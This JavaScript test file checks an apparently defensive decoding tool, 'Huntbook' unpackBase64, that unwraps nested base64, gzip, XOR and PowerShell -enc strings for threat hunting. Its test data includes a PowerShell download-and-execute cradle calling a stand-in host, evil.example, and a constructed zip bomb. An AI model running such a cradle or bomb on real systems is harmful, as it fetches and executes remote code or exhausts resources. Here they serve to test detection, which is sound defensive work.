// unpackBase64 through the built package.
import assert from "node:assert/strict";
import test from "node:test";
import { gzipSync } from "node:zlib";
import { HuntbookError, Table, read, unpackBase64 } from "../../pkg/node.js";

const HELLO = "Hello from inside. Visit http://evil.example/payload.exe";
const base64 = (data) => Buffer.from(data).toString("base64");

test("a text gives a row for each item, with msticpy's columns", async () => {
  const text = `ä run ${base64(base64(HELLO))} end`;
  const items = await unpackBase64(text);
  assert.deepEqual(items.columns.map(String), [
    "reference", "parent", "depth", "src_index", "src_column", "start", "end", "method", "original_string", "file_name", "file_type",
    "encoding_type", "decoded_string", "printable_bytes", "size", "md5", "sha1", "sha256", "error", "full_decoded_string",
  ]);
  const [outer, inner] = items.rows();
  assert.equal(text.slice(outer.start, outer.end), outer.original_string);
  assert.equal(inner.reference, "1.1");
  assert.equal(inner.parent, "1");
  assert.equal(inner.decoded_string, HELLO);
  assert.equal(inner.size, HELLO.length);
  assert.equal(inner.error, null);
  assert.match(outer.full_decoded_string, /^ä run <decoded type='string' index='1' depth='1'>.*Hello from inside/);
});

test("PowerShell's -enc is told by its content", async () => {
  const script = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')";
  const [row] = (await unpackBase64(`powershell -enc ${Buffer.from(script, "utf16le").toString("base64")}`)).rows();
  assert.deepEqual([row.decoded_string, row.encoding_type, row.file_type], [script, "utf-16le", "ps1"]);
});

test("bytes count bytes, and an archive is opened itself", async () => {
  const bytes = Buffer.from(`ä ${base64(HELLO)}`);
  const [row] = (await unpackBase64(bytes)).rows();
  assert.equal(bytes.subarray(row.start, row.end).toString(), row.original_string);
  const opened = await unpackBase64(new Blob([gzipSync(base64(HELLO))]));
  assert.deepEqual(opened.column("method"), ["gz", "base64"]);
});

test("a table's rows and columns are named", async () => {
  const logs = await Table.fromRows([{ Command: null, Other: "x" }, { Command: base64(HELLO), Other: base64("some other text") }]);
  const all = (await unpackBase64(logs)).rows();
  assert.deepEqual(all.map((row) => [row.src_index, row.src_column]), [[1, "Command"], [1, "Other"]]);
  const one = await unpackBase64(logs, { columns: ["Other"] });
  assert.deepEqual(one.column("decoded_string"), ["some other text"]);
});

test("options are checked, and used", async () => {
  const nested = base64(base64(base64(HELLO)));
  assert.equal((await unpackBase64(nested, { maxDepth: 2 })).numRows, 2);
  assert.equal((await unpackBase64(base64("hello there"), { minLength: 30 })).numRows, 0);
  const hidden = base64(Buffer.from(HELLO).map((byte) => byte ^ 0x5a));
  assert.deepEqual((await unpackBase64(hidden, { xor: true })).column("method"), ["base64", "xor 0x5a"]);
  await assert.rejects(unpackBase64("x", { maxDept: 2 }), (error) => error instanceof HuntbookError && /did you mean `maxDepth`/.test(error.message));
  await assert.rejects(unpackBase64("x", { maxDepth: 0 }), { code: "invalidArgument" });
  await assert.rejects(unpackBase64(await Table.fromRows([{ a: 1 }]), { columns: ["a"] }), { code: "columnType" });
});

test("a broken archive and a bomb are rows with an error", async () => {
  const broken = gzipSync(HELLO.repeat(50)).subarray(0, 40);
  const bomb = gzipSync(new Uint8Array(40 * 2 ** 20));
  const items = await unpackBase64(`${base64(broken)} ${base64(bomb)} ${base64(HELLO)}`);
  const errors = items.column("error").filter(Boolean).join("\n");
  assert.match(errors, /ends too early/);
  assert.match(errors, /times its size, as zip bombs do; raise maxRatio/);
  assert.equal(items.column("decoded_string").at(-1), HELLO);
});

test("read takes what unpackBase64 opens", async () => {
  const files = {
    "log.csv.xz": "/Td6WFoAAATm1rRGAgAhARYAAAB0L+WjAQALYSxiCjEseAoyLHkKAEzgt25dEyFzAAEkDKYY2NgftvN9AQAAAAAEWVo=",
    "log.csv.bz2": "QlpoOTFBWSZTWbzHKEUAAARZgAAQAAQwADAAAGAgADEMCCNBmo4EIheLuSKcKEheY5QigA==",
  };
  for (const [name, content] of Object.entries(files)) {
    const table = await read(Buffer.from(content, "base64"), { name });
    assert.deepEqual(table.rows(), [{ a: 1, b: "x" }, { a: 2, b: "y" }], name);
  }
});
